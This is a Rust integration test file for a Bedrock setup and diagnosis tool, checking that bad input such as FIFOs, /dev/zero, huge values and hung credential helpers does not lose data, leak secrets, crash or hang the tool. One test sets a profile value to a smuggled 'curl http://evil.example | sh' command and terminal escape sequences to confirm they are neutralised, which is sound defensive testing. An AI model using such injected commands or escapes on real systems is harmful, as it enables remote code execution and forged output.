//! Bad input, as a user meets it, never costs data, leaks a secret, crashes or hangs the tool:
//! one test per class, each running the built binary in a sandboxed home against loopback only.

#![cfg(unix)]

use std::fs;
use std::io::Read;
use std::os::unix::fs::{FileTypeExt, PermissionsExt, symlink};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine;

use crate::live::sandbox_for;
use crate::support::fake_aws::{FakeAws, Scenario};
use crate::support::{Run, Sandbox};

fn mkfifo(path: &Path) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

/// Runs the command and fails the test (killing it) if it has not finished within `limit`:
/// what is asserted is that it ends at all, not how fast.
fn run_within(mut command: Command, limit: Duration) -> Run {
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child: Child = command.spawn().expect("spawn claude-bedrock");
    let started = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return Run::from(child.wait_with_output().unwrap());
        }
        if started.elapsed() > limit {
            let _ = child.kill();
            let mut err = String::new();
            child.stderr.take().unwrap().read_to_string(&mut err).ok();
            panic!("claude-bedrock hung (killed after {limit:?}); stderr: {err}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The fake's sandbox without the default profile's access keys, so that another provider
/// supplies the credentials.
fn without_keys(sandbox: Sandbox) -> Sandbox {
    fs::remove_file(sandbox.home.join(".aws/credentials")).unwrap();
    sandbox
}

fn alive(pid: i32) -> bool {
    // SAFETY: signal 0 only checks that the process exists.
    unsafe { libc::kill(pid, 0) == 0 }
}

// ── Data loss ────────────────────────────────────────────────────────────────────────────────

#[test]
fn output_writes_into_devices_fifos_and_links_and_refuses_read_only_files() {
    let sandbox = Sandbox::new().env("CLAUDE_CODE_USE_BEDROCK", "1");
    let doctor = |target: &Path| {
        sandbox.run(&[
            "doctor",
            "--offline",
            "--json",
            "--output",
            target.to_str().unwrap(),
        ])
    };

    // A character device is written to, not replaced.
    let run = doctor(Path::new("/dev/null"));
    assert!(
        run.stderr
            .contains("wrote the JSON document to /dev/null (a character device)"),
        "{}",
        run.stderr
    );
    assert!(
        fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_char_device()
    );

    // A FIFO gets the document, and stays a FIFO.
    let fifo = sandbox.root.join("report.fifo");
    mkfifo(&fifo);
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).unwrap())
    };
    // The reader opens the FIFO first; a FIFO nobody reads is refused at once, never waited on.
    std::thread::sleep(Duration::from_millis(200));
    let run = doctor(&fifo);
    assert!(
        run.stderr.contains("(a FIFO (named pipe))"),
        "{}",
        run.stderr
    );
    let document: serde_json::Value = serde_json::from_str(&reader.join().unwrap()).unwrap();
    assert_eq!(document["schema_version"], 1);
    assert!(fs::metadata(&fifo).unwrap().file_type().is_fifo());
    let orphan = sandbox.root.join("unread.fifo");
    mkfifo(&orphan);
    let run = run_within(
        sandbox.command(&[
            "doctor",
            "--offline",
            "--json",
            "--output",
            orphan.to_str().unwrap(),
        ]),
        Duration::from_secs(30),
    );
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.contains("no process is reading"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("wrote"), "{}", run.stderr);

    // A symlink stays a symlink; its target gets the report, with its mode kept.
    let target = sandbox.root.join("reports/latest.json");
    fs::create_dir_all(target.parent().unwrap()).unwrap();
    fs::write(&target, "old").unwrap();
    fs::set_permissions(&target, fs::Permissions::from_mode(0o640)).unwrap();
    let link = sandbox.root.join("report.json");
    symlink(&target, &link).unwrap();
    let run = doctor(&link);
    assert!(run.stderr.contains("(through "), "{}", run.stderr);
    assert!(
        fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        fs::read_to_string(&target)
            .unwrap()
            .contains("schema_version")
    );
    assert_eq!(
        fs::metadata(&target).unwrap().permissions().mode() & 0o777,
        0o640
    );

    // A read-only file is refused and left exactly as it was; nothing claims it was written.
    let locked = sandbox.root.join("locked.json");
    fs::write(&locked, "keep me").unwrap();
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o444)).unwrap();
    let run = doctor(&locked);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("read-only"), "{}", run.stderr);
    assert!(!run.stderr.contains("wrote"), "{}", run.stderr);
    assert_eq!(fs::read_to_string(&locked).unwrap(), "keep me");
    assert_eq!(
        fs::metadata(&locked).unwrap().permissions().mode() & 0o777,
        0o444
    );
}

// ── Secrets ──────────────────────────────────────────────────────────────────────────────────

#[test]
fn the_traced_client_gets_settings_only_its_owner_can_read() {
    let sandbox = Sandbox::new()
        .env("CLAUDE_CODE_USE_BEDROCK", "1")
        .env("AWS_REGION", "us-east-1")
        .user_settings(&format!(
            r#"{{"env":{{"AWS_BEARER_TOKEN_BEDROCK":"{}"}}}}"#,
            crate::support::keys::long_term_key("123456789012")
        ));
    let seen = sandbox.root.join("modes");
    let bin = sandbox.root.join("bin");
    fs::create_dir_all(&bin).unwrap();
    let claude = bin.join("claude");
    fs::write(
        &claude,
        format!(
            "#!/bin/sh\nif [ \"$1\" = --version ]; then echo '2.1.332 (Claude Code)'; exit 0; fi\nif [ \"$1\" = auth ]; then exit 3; fi\nstat -c '%a %n' \"$CLAUDE_CONFIG_DIR\" \"$CLAUDE_CONFIG_DIR/..\" \"$CLAUDE_CONFIG_DIR/settings.json\" > {}\n",
            seen.display()
        ),
    )
    .unwrap();
    fs::set_permissions(&claude, fs::Permissions::from_mode(0o755)).unwrap();
    let run = sandbox.run(&[
        "doctor",
        "--offline",
        "--trace-client",
        "--claude-bin",
        claude.to_str().unwrap(),
        "--json",
    ]);
    assert!(run.code == 0 || run.code == 1, "{}", run.stderr);
    let modes = fs::read_to_string(&seen).expect("the fake client ran");
    let modes: Vec<&str> = modes
        .lines()
        .map(|l| l.split(' ').next().unwrap())
        .collect();
    assert_eq!(
        modes,
        ["700", "700", "600"],
        "config dir, its parent, the copy"
    );
}

// ── Panics ───────────────────────────────────────────────────────────────────────────────────

#[test]
fn absurd_keys_and_model_ids_are_findings_not_crashes() {
    // A short-term key claiming to be issued at the end of year 9999.
    let url = "bedrock.amazonaws.com/?Action=CallWithBearerToken&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F99991231%2Fus-east-1%2Fbedrock%2Faws4_request&X-Amz-Date=99991231T235959Z&X-Amz-Expires=43200&X-Amz-SignedHeaders=host&X-Amz-Signature=abcdef0123456789&Version=1";
    let key = format!(
        "bedrock-api-key-{}",
        base64::engine::general_purpose::STANDARD.encode(url)
    );
    let sandbox = Sandbox::new()
        .env("CLAUDE_CODE_USE_BEDROCK", "1")
        .env("AWS_BEARER_TOKEN_BEDROCK", &key);
    for args in [
        &["doctor", "--offline", "--json"][..],
        &["config", "--json"][..],
    ] {
        let run = sandbox.run(args);
        assert!(run.code == 0 || run.code == 1, "{args:?}: {}", run.stderr);
        run.json();
    }
    let bearer = sandbox
        .run(&["doctor", "--offline", "--json"])
        .check("auth.bearer");
    assert!(
        bearer.to_string().contains("not a plausible time"),
        "{bearer}"
    );

    // A pin of 70,000 characters, and a profile of that length listed by the server.
    let long = format!("us.anthropic.{}", "x".repeat(70_000));
    let mut scenario = Scenario::healthy();
    scenario.extra_profiles = vec![serde_json::json!({
        "inferenceProfileId": long,
        "inferenceProfileArn": format!("arn:aws:bedrock:us-east-1:123456789012:inference-profile/{long}"),
        "inferenceProfileName": "Claude Sonnet Huge",
        "description": "",
        "models": [{"modelArn": "arn:aws:bedrock:us-east-1::foundation-model/anthropic.claude-sonnet-4-6"}],
        "status": "ACTIVE",
        "type": "SYSTEM_DEFINED"
    })];
    let fake = FakeAws::start(scenario);
    let sandbox = sandbox_for(&fake).local_settings(&format!(
        r#"{{"env":{{"ANTHROPIC_DEFAULT_SONNET_MODEL":"{long}"}}}}"#
    ));
    for format in ["--json", "--format=junit"] {
        let run = sandbox.run(&["doctor", format, "--timeout", "5"]);
        assert_eq!(run.code, 1, "{}", run.stderr);
        assert!(!run.stdout.is_empty(), "a document is always printed");
    }
    let run = sandbox.run(&["doctor", "--json", "--timeout", "5"]);
    let pinned = run.check("models.pinned");
    assert_eq!(pinned["status"], "fail");
    assert!(
        pinned["summary"]
            .as_str()
            .unwrap()
            .contains("70013 characters long"),
        "{pinned}"
    );
    // Never sent: the fake saw no request for it.
    assert!(fake.seen().iter().all(|s| s.path.len() < 4096));
    let models = sandbox.run(&["models", "--probe", "--json", "--timeout", "5"]);
    assert!(models.code == 0 || models.code == 1, "{}", models.stderr);
    models.json();
}

// ── Hangs and exhaustion ─────────────────────────────────────────────────────────────────────

#[test]
fn fifos_and_endless_files_at_every_read_path_are_findings_not_hangs() {
    let home_paths = [
        ".claude/settings.json",
        ".aws/config",
        ".aws/credentials",
        ".aws/sso/cache/d033e22ae348aeb5660fc2140aec35850c4da997.json",
    ];
    for relative in home_paths {
        let sandbox = Sandbox::new()
            .env("CLAUDE_CODE_USE_BEDROCK", "1")
            .env("AWS_PROFILE", "corp")
            .aws_config("[profile corp]\nsso_session = admin\nsso_account_id = 123456789012\nsso_role_name = Dev\n[sso-session admin]\nsso_region = us-east-1\nsso_start_url = https://corp.awsapps.com/start\n");
        let path = sandbox.home.join(relative);
        let _ = fs::remove_file(&path);
        mkfifo(&path);
        let run = run_within(
            sandbox.command(&["doctor", "--offline", "--json"]),
            Duration::from_secs(30),
        );
        assert!(run.code == 0 || run.code == 1, "{relative}: {}", run.stderr);
        assert!(
            run.stdout.contains("FIFO"),
            "{relative}: no finding names the FIFO:\n{}",
            run.stdout
        );
    }
    for layer in ["project", "managed"] {
        let sandbox = Sandbox::new();
        let path = match layer {
            "project" => sandbox.project.join(".claude/settings.local.json"),
            _ => sandbox.managed.join("managed-settings.json"),
        };
        mkfifo(&path);
        let run = run_within(
            sandbox.command(&["doctor", "--offline", "--json"]),
            Duration::from_secs(30),
        );
        assert!(run.stdout.contains("FIFO"), "{layer}: {}", run.stdout);
    }

    // /dev/zero as a settings file and as AWS_CONFIG_FILE: refused, not read forever.
    let sandbox = Sandbox::new()
        .env("CLAUDE_CODE_USE_BEDROCK", "1")
        .env("AWS_CONFIG_FILE", "/dev/zero");
    fs::create_dir_all(sandbox.home.join(".claude")).unwrap();
    symlink("/dev/zero", sandbox.user_settings_path()).unwrap();
    for args in [
        &["doctor", "--offline", "--json"][..],
        &["config", "--json"][..],
    ] {
        let run = run_within(sandbox.command(args), Duration::from_secs(30));
        assert!(run.code == 0 || run.code == 1, "{args:?}: {}", run.stderr);
        assert!(
            run.stdout.contains("character device"),
            "{args:?}: {}",
            run.stdout
        );
    }

    // A web-identity token file at /dev/zero, online: a finding, no hang.
    let fake = FakeAws::start(Scenario::healthy());
    let sandbox = without_keys(sandbox_for(&fake))
        .env("AWS_WEB_IDENTITY_TOKEN_FILE", "/dev/zero")
        .env("AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/ci");
    let run = run_within(
        sandbox.command(&["doctor", "--json", "--timeout", "3"]),
        Duration::from_secs(60),
    );
    let source = run.check("auth.source");
    assert_eq!(source["status"], "fail", "{source}");
    assert!(source.to_string().contains("/dev/zero"), "{source}");
    assert!(
        run.check("auth.identity")["summary"]
            .as_str()
            .unwrap()
            .contains("not a regular file"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_huge_value_is_shown_cut_with_its_length() {
    let huge = "y".repeat(1_000_000);
    let sandbox = Sandbox::new().user_settings(&format!(
        r#"{{"env":{{"CLAUDE_CODE_USE_BEDROCK":"1","ANTHROPIC_MODEL":"{huge}","AWS_REGION":"us-east-1"}}}}"#
    ));
    let run = run_within(
        sandbox.command(&["config", "--color", "never"]),
        Duration::from_secs(60),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("(1000000 characters in all)"),
        "{}",
        &run.stdout[..run.stdout.len().min(2000)]
    );
    assert!(run.stdout.len() < 100_000, "{} bytes", run.stdout.len());
    // The machine-readable document still carries the value whole.
    let json = sandbox.run(&["config", "--json"]).json();
    assert_eq!(
        json["env"]["ANTHROPIC_MODEL"]["value"]
            .as_str()
            .unwrap()
            .len(),
        1_000_000
    );
}

#[test]
fn a_hung_credential_process_is_named_and_killed() {
    let fake = FakeAws::start(Scenario::healthy());
    let sandbox = sandbox_for(&fake);
    let pid_file = sandbox.root.join("helper.pid");
    let script = sandbox.root.join("creds.sh");
    // A helper that starts a child of its own and waits on it: both must go.
    fs::write(
        &script,
        format!(
            "#!/bin/sh\necho $$ > {}\nsleep 300 &\necho $! >> {}\nwait\n",
            pid_file.display(),
            pid_file.display()
        ),
    )
    .unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
    let sandbox = sandbox
        .aws_config(&format!(
            "[profile hung]\nregion = us-east-1\ncredential_process = {}\n",
            script.display()
        ))
        .env("AWS_PROFILE", "hung");
    let run = run_within(
        sandbox.command(&["doctor", "--json", "--timeout", "2"]),
        Duration::from_secs(60),
    );
    let identity = run.check("auth.identity");
    let summary = identity["summary"].as_str().unwrap();
    assert!(
        summary.contains("credential_process of profile \"hung\" did not answer within 2 s"),
        "{identity}"
    );
    assert!(
        !summary.contains("STS"),
        "STS was never contacted: {identity}"
    );
    assert!(
        fake.seen().is_empty(),
        "nothing unsigned was sent: {:?}",
        fake.seen()
    );
    let pids: Vec<i32> = fs::read_to_string(&pid_file)
        .unwrap()
        .lines()
        .map(|l| l.trim().parse().unwrap())
        .collect();
    assert_eq!(pids.len(), 2);
    // The group is killed before the doctor exits; give the kernel a moment to reap.
    let deadline = Instant::now() + Duration::from_secs(5);
    while pids.iter().any(|p| alive(*p)) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    for pid in pids {
        assert!(!alive(pid), "process {pid} outlived the doctor");
    }
}

#[test]
fn a_hung_container_endpoint_is_named() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // Accepts and never answers.
    let _holder = std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(8).collect();
        std::thread::sleep(Duration::from_secs(30));
        drop(held);
    });
    let fake = FakeAws::start(Scenario::healthy());
    let sandbox = without_keys(sandbox_for(&fake)).env(
        "AWS_CONTAINER_CREDENTIALS_FULL_URI",
        &format!("http://127.0.0.1:{port}/creds"),
    );
    let run = run_within(
        sandbox.command(&["doctor", "--json", "--timeout", "2"]),
        Duration::from_secs(60),
    );
    let identity = run.check("auth.identity");
    let summary = identity["summary"].as_str().unwrap();
    assert!(
        summary.contains("container credentials endpoint"),
        "{identity}"
    );
    assert!(!summary.contains("STS"), "{identity}");
}

// ── Machine output and injection ─────────────────────────────────────────────────────────────

#[test]
fn a_failed_write_to_stdout_is_an_error() {
    let sandbox = Sandbox::new();
    let full = fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let output = sandbox
        .command(&["config", "--json"])
        .stdout(full)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("cannot write to standard output"),
        "{stderr}"
    );
}

#[test]
fn settings_cannot_drive_the_terminal_or_the_shell() {
    let sandbox = Sandbox::new().project_settings(
        r#"{"env":{
            "CLAUDE_CODE_USE_BEDROCK":"1",
            "AWS_REGION":"us-east-1\u001b]0;pwned\u0007",
            "AWS_PROFILE":"dev; curl http://evil.example | sh #",
            "ANTHROPIC_MODEL":"x\r  ✓ Everything          forged\n\u001b[2J",
            "AWS_\u001b[31mEVIL":"1"
        }}"#,
    );
    for args in [
        &["doctor", "--offline", "--color", "never"][..],
        &["config", "--color", "never"][..],
        &["doctor", "--offline", "--format", "markdown"][..],
    ] {
        let run = sandbox.run(args);
        for forbidden in ['\u{1b}', '\u{7}', '\r'] {
            assert!(
                !run.stdout.contains(forbidden),
                "{args:?} printed {forbidden:?}:\n{}",
                run.stdout
            );
        }
        assert!(
            !run.stdout.lines().any(|l| l.starts_with("  ✓ Everything")),
            "{args:?} let a forged line through:\n{}",
            run.stdout
        );
    }
    let source = sandbox
        .run(&["doctor", "--offline", "--json"])
        .check("auth.source");
    assert!(
        source["fix"]
            .as_str()
            .unwrap()
            .contains("aws configure sso --profile 'dev; curl http://evil.example | sh #'"),
        "{source}"
    );
    // JUnit XML stays well-formed whatever the values hold.
    let junit = sandbox.run(&["doctor", "--offline", "--format", "junit"]);
    roxmltree::Document::parse(&junit.stdout).expect("valid XML");
}

// ── Wrong answers on bad input ───────────────────────────────────────────────────────────────

#[test]
fn doctor_and_setup_agree_with_json_parse() {
    for text in [
        r#"{"env":{"AWS_REGION":"us-east-1"},"env":{"CLAUDE_CODE_USE_BEDROCK":"1","AWS_REGION":"us-west-2"}}"#,
        r#"{"env":null,"model":"opus"}"#,
        r#"{"env":{"CLAUDE_CODE_USE_BEDROCK":"1","X":"\ud800"},"cleanupPeriodDays":1e999}"#,
    ] {
        let sandbox = Sandbox::new().user_settings(text);
        let files = sandbox
            .run(&["doctor", "--offline", "--json"])
            .check("settings.files");
        assert!(
            !files.to_string().contains("not valid JSON"),
            "{text}: {files}"
        );
        let setup = sandbox.run(&[
            "setup",
            "--yes",
            "--no-probe",
            "--auth",
            "env",
            "--region",
            "us-west-2",
            "--dry-run",
            "--json",
        ]);
        assert!(
            !setup.stdout.contains("not valid JSON") && !setup.stderr.contains("not valid JSON"),
            "{text}: {}\n{}",
            setup.stdout,
            setup.stderr
        );
    }
    // The last copy of a repeated key is the one that counts, for the doctor as for Claude Code.
    let sandbox = Sandbox::new().user_settings(
        r#"{"env":{"AWS_REGION":"us-east-1"},"env":{"CLAUDE_CODE_USE_BEDROCK":"1","AWS_REGION":"us-west-2"}}"#,
    );
    let config = sandbox.run(&["config", "--json"]).json();
    assert_eq!(config["region"]["value"], "us-west-2");
    // …and setup edits that copy.
    let run = sandbox.run(&[
        "setup",
        "--yes",
        "--no-probe",
        "--auth",
        "env",
        "--region",
        "eu-west-1",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let after = sandbox.run(&["config", "--json"]).json();
    assert_eq!(after["region"]["value"], "eu-west-1");
}

#[test]
fn broken_credential_chains_fail_offline() {
    let cases = [
        (
            "[profile corp]\nsso_session = missing\nsso_account_id = 1\nsso_role_name = R\n",
            "corp",
            "no [sso-session missing] section",
        ),
        (
            "[profile a]\nrole_arn = arn:aws:iam::1:role/a\nsource_profile = b\n[profile b]\nrole_arn = arn:aws:iam::1:role/b\nsource_profile = a\n",
            "a",
            "loops",
        ),
        (
            "[profile ci]\nrole_arn = arn:aws:iam::1:role/ci\nweb_identity_token_file = /nonexistent/token\n",
            "ci",
            "does not exist",
        ),
    ];
    for (config, profile, expected) in cases {
        let sandbox = Sandbox::new()
            .env("CLAUDE_CODE_USE_BEDROCK", "1")
            .env("AWS_PROFILE", profile)
            .aws_config(config);
        let source = sandbox
            .run(&["doctor", "--offline", "--json"])
            .check("auth.source");
        assert_eq!(source["status"], "fail", "{profile}: {source}");
        assert!(source.to_string().contains(expected), "{profile}: {source}");
    }
}

#[test]
fn a_listing_that_never_ends_is_named() {
    let mut scenario = Scenario::healthy();
    scenario.repeat_next_token = true;
    let fake = FakeAws::start(scenario);
    let run = run_within(
        sandbox_for(&fake).command(&["doctor", "--json", "--timeout", "5"]),
        Duration::from_secs(60),
    );
    let list = run.check("iam.list-inference-profiles");
    assert_eq!(list["status"], "fail", "{list}");
    assert!(
        list["summary"]
            .as_str()
            .unwrap()
            .contains("nextToken it had already given"),
        "{list}"
    );
}

#[test]
fn odd_homes_links_and_inputs_get_the_right_answer() {
    // Project directory = home: ~/.claude/settings.json is one file, counted once.
    let sandbox = Sandbox::new().user_settings(r#"{"env":{"CLAUDE_CODE_USE_BEDROCK":"1"}}"#);
    let run = Run::from(
        Command::new(env!("CARGO_BIN_EXE_claude-bedrock"))
            .env_clear()
            .envs(&sandbox.env)
            .current_dir(&sandbox.home)
            .args(["doctor", "--offline", "--json", "--managed-settings-dir"])
            .arg(&sandbox.managed)
            .output()
            .unwrap(),
    );
    let files = run.check("settings.files");
    assert_eq!(files["summary"], "1 settings file, valid", "{files}");

    // A dangling link is a finding, and setup does not create its target.
    let sandbox = Sandbox::new().env("CLAUDE_CODE_USE_BEDROCK", "1");
    fs::create_dir_all(sandbox.home.join(".claude")).unwrap();
    let elsewhere = sandbox.root.join("elsewhere/settings.json");
    symlink(&elsewhere, sandbox.user_settings_path()).unwrap();
    let files = sandbox
        .run(&["doctor", "--offline", "--json"])
        .check("settings.files");
    assert_eq!(files["status"], "warn", "{files}");
    assert!(
        files["summary"]
            .as_str()
            .unwrap()
            .contains("does not exist")
    );
    let run = sandbox.run(&[
        "setup",
        "--yes",
        "--no-probe",
        "--auth",
        "env",
        "--region",
        "us-east-1",
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("dangling"), "{}", run.stderr);
    assert!(!elsewhere.exists());

    // Several lines on --bearer-key-stdin: refused, not guessed.
    let sandbox = Sandbox::new();
    let mut child = sandbox
        .command(&[
            "setup",
            "--yes",
            "--no-probe",
            "--auth",
            "bearer",
            "--bearer-key-stdin",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"ABSKfirstline0000000\nABSKsecondline000000\n")
        .unwrap();
    let run = Run::from(child.wait_with_output().unwrap());
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("2 non-empty lines"), "{}", run.stderr);
    assert!(!sandbox.user_settings_path().exists());

    // "is an array", not "is a array".
    let sandbox = Sandbox::new().user_settings(r#"{"env":{"CLAUDE_CODE_USE_BEDROCK":["1"]}}"#);
    let files = sandbox
        .run(&["doctor", "--offline", "--json"])
        .check("settings.files");
    assert!(files.to_string().contains("is an array"), "{files}");
}

#[test]
fn backups_are_kept_to_a_few() {
    let sandbox = Sandbox::new().user_settings(r#"{"env":{}}"#);
    for region in [
        "us-east-1",
        "us-east-2",
        "us-west-1",
        "us-west-2",
        "eu-west-1",
        "eu-west-2",
        "eu-central-1",
        "ap-northeast-1",
    ] {
        let run = sandbox.run(&[
            "setup",
            "--yes",
            "--no-probe",
            "--auth",
            "env",
            "--region",
            region,
        ]);
        assert_eq!(run.code, 0, "{}", run.stderr);
    }
    let backups = fs::read_dir(sandbox.home.join(".claude"))
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with("settings.json.bak")
        })
        .count();
    assert_eq!(backups, 5);
}

#[test]
fn a_mantle_timeout_is_not_called_a_credentials_problem() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let _holder = std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(8).collect();
        std::thread::sleep(Duration::from_secs(30));
        drop(held);
    });
    let fake = FakeAws::start(Scenario::healthy());
    let sandbox = sandbox_for(&fake).env("CLAUDE_CODE_USE_MANTLE", "1").env(
        "ANTHROPIC_BEDROCK_MANTLE_BASE_URL",
        &format!("http://127.0.0.1:{port}/anthropic"),
    );
    let run = run_within(
        sandbox.command(&["doctor", "--json", "--timeout", "2"]),
        Duration::from_secs(60),
    );
    let models = run.check("mantle.models");
    let summary = models["summary"].as_str().unwrap();
    assert!(!summary.contains("credentials"), "{models}");
    assert!(summary.contains("did not answer"), "{models}");
}
